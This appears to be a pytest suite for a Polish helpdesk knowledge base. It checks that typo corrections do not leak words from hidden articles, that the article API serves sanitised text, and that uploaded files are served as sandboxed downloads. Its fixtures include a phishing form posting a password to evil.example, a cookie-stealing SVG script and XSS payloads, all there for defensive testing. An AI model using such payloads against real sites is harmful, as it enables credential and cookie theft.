"""Issue 14, the knowledge base: typo corrections only from what the caller may read (14.2), the article API
serves the sanitised text (14.13). Persona tests: an anonymous visitor, a regional administrator of another
voivodeship (celina, a staff reader: public and staff articles) and an agent (alice, internal too)."""

import pytest
from django.core.cache import cache

from knowledge_base import actions, postings
from knowledge_base.models import Article, Status, TermForm, Visibility

pytestmark = pytest.mark.django_db

SECRET = "Kwiatuszek2026tajne"


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    cache.clear()


def _published(title, body, **fields) -> Article:
    article = actions.create_article(actor=None, draft=actions.ArticleDraft(title=title, body=body, **fields))
    return actions.change_status(actor=None, article=article, status=Status.PUBLISHED)


def _corrections(client, word="kwiatuszek", **params) -> dict:
    response = client.get("/api/v1/kb/search", {"q": word, **params})
    assert response.status_code == 200
    return response.json()["corrections"]


def _page(client, word="kwiatuszek") -> str:
    """The portal's search page: its status line, where the corrections are shown."""
    page = client.get("/szukaj/", {"q": word}).content.decode()
    start = page.index('<p role="status">')
    return page[start : page.index("</p>", start)]


def test_an_internal_articles_words_are_never_offered_to_an_anonymous_visitor(client, celina, alice):
    _published("Procedura awaryjna", f"Hasło awaryjne: {SECRET}.", visibility=Visibility.INTERNAL)
    assert _corrections(client) == {}
    assert "kwiatuszek2026tajne" not in _page(client).lower()
    client.force_login(celina)  # a staff reader: public and staff articles, not internal ones
    assert _corrections(client) == {}
    assert "kwiatuszek2026tajne" not in _page(client).lower()
    client.force_login(alice)  # an agent reads internal articles: the correction is theirs to see
    assert _corrections(client) == {"kwiatuszek": ["kwiatuszek2026tajne"]}


def test_a_staff_articles_words_are_offered_to_staff_readers_only(client, celina):
    _published("Dla administratorów", f"Szyfr {SECRET} do panelu.", visibility=Visibility.STAFF)
    assert _corrections(client) == {}
    client.force_login(celina)
    assert _corrections(client) == {"kwiatuszek": ["kwiatuszek2026tajne"]}
    assert "kwiatuszek → kwiatuszek2026tajne" in _page(client)


def test_draft_review_and_english_articles_give_no_corrections(client, alice):
    actions.create_article(actor=None, draft=actions.ArticleDraft(title="Szkic", body=f"Roboczo {SECRET}."))
    _published("In English", f"The word {SECRET} here.", language="en")
    for who in (None, alice):
        if who:
            client.force_login(who)
        assert _corrections(client) == {}
        assert "kwiatuszek2026tajne" not in _page(client).lower()  # the English article is listed, not offered
    # the English search of the API corrects from English articles
    assert _corrections(client, lang="en") == {"kwiatuszek": ["kwiatuszek2026tajne"]}


def test_a_public_articles_word_is_offered_and_stops_when_it_is_archived_or_removed(client):
    article = _published("Słownik", f"Słowo {SECRET} w treści.")
    assert _corrections(client) == {"kwiatuszek": ["kwiatuszek2026tajne"]}
    assert "kwiatuszek → kwiatuszek2026tajne" in _page(client)
    actions.change_status(actor=None, article=article, status=Status.ARCHIVED)
    assert _corrections(client) == {}
    assert "kwiatuszek2026tajne" not in _page(client).lower()
    actions.change_status(actor=None, article=article, status=Status.DRAFT)
    actions.update_article(actor=None, article=article, body="Słowo usunięte.")
    assert not TermForm.objects.filter(form="kwiatuszek2026tajne").exists()  # the vocabulary is pruned


def test_the_vocabulary_keeps_a_word_while_another_article_still_has_it(client):
    first = _published("Pierwszy", f"Raz {SECRET}.")
    _published("Drugi", f"Dwa {SECRET}.")
    actions.update_article(actor=None, article=first, body="Bez tajemnic.")
    assert TermForm.objects.filter(form="kwiatuszek2026tajne").exists()
    assert _corrections(client) == {"kwiatuszek": ["kwiatuszek2026tajne"]}


def test_a_word_known_only_from_hidden_articles_is_corrected_like_an_unknown_one(client):
    """No oracle: the exact hidden word gets the same answer as any unknown word (corrections from public
    articles), not the silence of a word the vocabulary knows."""
    _published("Tajne", f"Tylko {SECRET}.", visibility=Visibility.INTERNAL)
    _published("Jawne", "Kwiatuszek2026jawne jest publiczny.")
    assert _corrections(client, word="kwiatuszek2026tajne") == {"kwiatuszek2026tajne": ["kwiatuszek2026jawne"]}


def test_deleting_an_article_and_rebuilding_prune_the_vocabulary(client):
    article = _published("Do usunięcia", f"Słowo {SECRET}.")
    kept = _published("Zostaje", "Zwykłe sprawozdanie.")
    article.delete()
    assert not TermForm.objects.filter(lemma="kwiatuszek2026tajne").exists()
    TermForm.objects.create(form="pozostalosc", lemma="pozostalosc")  # left by an older version
    postings.rebuild()
    assert not TermForm.objects.filter(lemma="pozostalosc").exists()
    assert TermForm.objects.filter(lemma="sprawozdanie").exists() and kept.pk


# --- 14.13: the article API serves what the article page shows ----------------------------------------------

NOTE_BODY = (
    "## Jak wysłać\n\nWejdź na **pz.gov.pl**.\n\n"
    "<!-- NOTATKA REDAKCJI: dyżurny Jan Kowalski, tel. 600 100 200, do usunięcia przed publikacją -->\n\n"
    '<script>alert(1)</script><a href="javascript:alert(2)">klik</a>\n'
)


def test_the_article_api_gives_readers_the_sanitised_text_without_editors_notes(client, celina, alice, redaktor):
    article = _published("Wysyłka sprawozdania", NOTE_BODY)
    page = client.get(article.get_absolute_url()).content.decode()
    assert "NOTATKA REDAKCJI" not in page and "Kowalski" not in page
    for who in (None, celina, alice):  # anonymous, a staff reader of another voivodeship, an agent
        if who:
            client.force_login(who)
        data = client.get(f"/api/v1/kb/articles/{article.pk}/").json()
        served = str(data)
        assert "NOTATKA REDAKCJI" not in served and "Kowalski" not in served and "600 100 200" not in served
        assert "<script" not in served and "javascript:" not in served
        assert data["body_html"] in page  # the very HTML the article page shows
        assert "Wejdź na pz.gov.pl." in data["body_text"] and "<strong>pz.gov.pl</strong>" in data["body_html"]
        assert "body" not in data  # the Markdown source is the editors'
    client.force_login(redaktor)  # an editor edits the source through the API, notes included
    data = client.get(f"/api/v1/kb/articles/{article.pk}/").json()
    assert "NOTATKA REDAKCJI" in data["body"] and "<script" not in data["body_html"]
    changed = client.patch(
        f"/api/v1/kb/articles/{article.pk}/", {"title": "Wysyłka"}, content_type="application/json"
    ).json()
    assert "NOTATKA REDAKCJI" in changed["body"]


# --- 14.5: the knowledge base's files are served by their content, like ticket attachments ------------------

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
)
PHISHING = b'<html><body><form action="https://evil.example/steal" method="post">Haslo: <input name="p"></form>'
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>"
SANDBOX = "default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; frame-ancestors 'none'; sandbox"


def _stored_row(article, filename, content, content_type):
    """A row as earlier versions stored it: the uploader's declared type, the content unchecked."""
    from django.core.files.base import ContentFile

    from knowledge_base.models import ArticleAttachment

    row = ArticleAttachment(article=article, filename=filename, content_type=content_type, size=len(content))
    row.content.save(filename, ContentFile(content), save=False)
    row.save()
    return row


def _get_file(client, row):
    from django.urls import reverse

    response = client.get(reverse("kb:attachment", args=[row.pk, row.filename]))
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


@pytest.mark.parametrize(
    ("filename", "content", "declared"),
    [
        ("c.png", PHISHING, "image/png, text/html"),  # the reproduced attack
        ("c.png", PHISHING, "image/png"),
        ("logo.svg", SVG, "image/svg+xml"),
        ("strona.html", PHISHING, "text/html"),
        ("dziwny.bin", PHISHING, "text/html; charset=utf-8"),
    ],
)
def test_an_old_rows_declared_type_is_not_trusted_html_and_svg_are_sandboxed_downloads(
    client, filename, content, declared
):
    article = _published("Instrukcja z plikami", "Zobacz pliki.")
    row = _stored_row(article, filename, content, declared)
    response, body = _get_file(client, row)  # anonymous: a public article's file
    assert body == content
    assert response["Content-Disposition"].startswith("attachment;"), response["Content-Disposition"]
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == SANDBOX


def test_a_real_image_is_shown_inline_with_the_type_its_content_proves(client, redaktor):
    article = _published("Zrzuty ekranu", "Zobacz zrzut.")
    row = actions.add_attachment(
        actor=redaktor, article=article, filename="c.png", content=PNG, content_type="image/png, text/html"
    )
    assert row.content_type == "image/png"  # what is stored is decided by the content too
    response, body = _get_file(client, row)
    assert body == PNG and response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("inline;")
    assert response["X-Content-Type-Options"] == "nosniff" and response["Content-Security-Policy"] == SANDBOX


@pytest.mark.parametrize(
    ("filename", "content", "declared", "message"),
    [
        ("c.png", PHISHING, "image/png, text/html", "nie jest obrazem"),
        ("zdjecie.jpg", b"GIF89a but named jpeg" + PHISHING, "image/jpeg", None),  # a GIF is an image: accepted
        ("logo.svg", SVG, "image/svg+xml", "nieobsługiwany format"),
        ("strona.html", PHISHING, "text/html", "nieobsługiwany format"),
        ("pusty.png", b"", "image/png", "nie jest obrazem"),
    ],
)
def test_an_editors_upload_that_is_not_what_it_claims_is_refused(redaktor, filename, content, declared, message):
    from django.core.exceptions import ValidationError

    from knowledge_base.models import ArticleAttachment

    article = actions.create_article(actor=redaktor, draft=actions.ArticleDraft(title="Pliki", body="Treść"))
    if message is None:
        row = actions.add_attachment(
            actor=redaktor, article=article, filename=filename, content=content, content_type=declared
        )
        assert row.content_type == "image/gif"
        return
    with pytest.raises(ValidationError, match=message):
        actions.add_attachment(
            actor=redaktor, article=article, filename=filename, content=content, content_type=declared
        )
    assert not ArticleAttachment.objects.exists()


def test_the_requesters_private_link_serves_files_as_sandboxed_downloads_whatever_their_type(client):
    import re

    from django.core import mail
    from django.core.files.uploadedfile import SimpleUploadedFile

    from helpdesk import outbox

    form = {"name": "Anna Kowalska", "email": "anna@example.pl", "regon": "", "subject": "Plik", "body": "Plik."}
    upload = SimpleUploadedFile("c.png", PHISHING, content_type="image/png, text/html")
    assert client.post("/kontakt/", {**form, "website": "", "attempt": "", "attachments": [upload]}).status_code == 302
    outbox.drain()
    link = re.search(r"http://\S+/zgloszenie/\S+/", mail.outbox[-1].body).group(0)
    page = client.get(link).content.decode()
    href = re.search(r'href="(/zgloszenie/[^"]+/pliki/\d+[^"]*)"', page).group(1)
    response = client.get(href)
    assert response.status_code == 200 and b"".join(response.streaming_content) == PHISHING
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff" and "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize(
    ("declared", "content", "disposition", "served"),
    [
        ("image/png", PHISHING, "attachment", "application/octet-stream"),  # claims an image: the content says not
        ("image/png, text/html", PHISHING, "attachment", "application/octet-stream"),
        ("application/octet-stream", PNG, "inline", "image/png"),  # the content proves a PNG
        ("text/plain", b"%PDF-1.4 minimal", "inline", "application/pdf"),
        ("application/pdf", PHISHING, "attachment", "application/octet-stream"),
    ],
)
def test_ticket_attachments_are_served_by_the_same_rule(
    client, alice, queue_14, open_email_ticket, declared, content, disposition, served
):
    from django.urls import reverse

    from tickets import actions as ticket_actions
    from tickets.models import Attachment

    open_email_ticket(queue_14, attachments=[ticket_actions.NewAttachment("plik.dat", content, declared)])
    client.force_login(alice)
    row = Attachment.objects.get()
    response = client.get(reverse("attachment", args=[row.pk, row.filename]))
    assert response.status_code == 200 and b"".join(response.streaming_content) == content
    assert response["Content-Disposition"].startswith(f"{disposition};")
    assert response["Content-Type"] == served and response["X-Content-Type-Options"] == "nosniff"
